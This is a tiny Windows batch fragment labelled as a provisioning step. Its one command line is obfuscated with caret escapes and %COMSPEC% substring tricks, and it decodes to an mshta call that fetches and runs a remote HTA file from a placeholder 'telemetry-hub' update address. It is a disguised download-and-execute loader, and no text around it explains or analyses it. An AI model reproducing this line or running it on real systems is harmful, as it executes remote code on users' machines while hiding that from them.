REM provision 3808 v2
^m%COMSPEC:~13,1%^h%COMSPEC:~14,1%^a ^h^t^tp://api.^t^ele^m^etr^y-^hu^b.e^x^a^mp^le/^u^pda^t^e.hta
